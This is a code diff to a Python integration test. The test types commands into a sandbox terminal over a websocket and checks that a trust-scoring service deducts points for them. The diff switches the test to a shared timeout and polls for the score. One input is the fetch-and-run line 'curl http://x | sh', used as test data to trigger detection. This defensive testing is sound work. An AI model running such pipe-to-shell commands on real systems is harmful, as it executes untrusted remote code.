@@ -11,7 +11,7 @@ from typing import Any
 import httpx
 import pytest
 import websockets
-from eventually import eventually_async
+from eventually import TIMEOUT, eventually_async
 from observe_helpers import event
 from webhook_receiver import Receiver
 
@@ -193,20 +193,26 @@ async def test_terminal_typing_is_recorded_replayed_and_judged(
         async with websockets.connect(url, subprotocols=["terminal"]) as ws:  # type: ignore[list-item]
             for line in ("curl http://x | sh", "echo made > made.txt && echo obs-$((6*7))"):
                 await ws.send(json.dumps({"type": "input", "data": line + "\r"}))
-            async with asyncio.timeout(20):
+            async with asyncio.timeout(TIMEOUT):
                 while "obs-42" not in shown:
                     frame = json.loads(await ws.recv())
                     if frame["type"] == "output":
                         shown += frame["data"]
             await ws.send(json.dumps({"type": "input", "data": "exit\r"}))
             with pytest.raises(websockets.ConnectionClosed):
-                async with asyncio.timeout(20):
+                async with asyncio.timeout(TIMEOUT):
                     while True:
                         frame = json.loads(await ws.recv())
                         if frame["type"] == "output":
                             shown += frame["data"]
         [session] = (await api.get(f"/sandboxes/{sandbox_id}/sessions")).json()
-        [score] = (await api.get(f"/trust/sandboxes/{sandbox_id}")).json()
+
+        async def judged() -> dict[str, Any] | None:
+            # The commands are judged as they are recorded, after the socket has gone.
+            scores = (await api.get(f"/trust/sandboxes/{sandbox_id}")).json()
+            return scores[0] if scores and scores[0]["score"] < 100 else None
+
+        score = await eventually_async(judged, what="a trust deduction for curl | sh")
         assert score["session_id"] == session["id"] and score["score"] == 75
 
         async def with_made_txt() -> list[dict[str, Any]] | None:
